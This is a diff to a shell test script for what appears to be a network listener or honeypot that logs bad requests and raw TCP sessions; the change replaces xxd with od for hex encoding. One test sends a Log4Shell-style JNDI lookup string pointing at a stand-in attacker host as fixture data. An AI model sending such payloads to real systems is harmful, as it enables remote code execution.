@@ -155,7 +155,7 @@ case "$out" in 485454502f312e3120343030*) ;; *) fail "binary input should get 40
 wait_events "$EV" '"event":"http.bad_request"'
 ok "binary junk: 400 and an http.bad_request event"
 
-big=$(python3 -c "print('GET / HTTP/1.1\r\nX-Pad: ' + 'A'*9000 + '\r\n\r\n', end='')" | xxd -p | tr -d '\n')
+big=$(python3 -c "print('GET / HTTP/1.1\r\nX-Pad: ' + 'A'*9000 + '\r\n\r\n', end='')" | od -An -v -tx1 | tr -d " \n")
 out=$($PEERS send "$PW" "$big" 3)
 case "$out" in 485454502f312e3120343331*) ;; *) fail "oversized head should get 431, got ${out:0:40}" ;; esac
 ok "oversized head: 431"
@@ -230,7 +230,7 @@ ok "connection cap enforced (20 connection.rejected events)"
 
 # ---- tcp listener: raw bytes on the second port of the range -------------------------
 P2=$((PT + 1))
-$PEERS send "$P2" "$(printf 'SSH-2.0-evil ${jndi:ldap://raw.attacker.test/i}\r\n' | xxd -p | tr -d '\n')00ff" 0.3 >/dev/null
+$PEERS send "$P2" "$(printf 'SSH-2.0-evil ${jndi:ldap://raw.attacker.test/i}\r\n' | od -An -v -tx1 | tr -d " \n")00ff" 0.3 >/dev/null
 wait_events "$EV" "\"dst_port\":$P2"
 ev_query "$EV" "e['first_bytes']['text'] if e['event'] == 'tcp.session' else None" | grep -qF 'SSH-2.0-evil' ||
     fail "tcp first bytes not recorded"
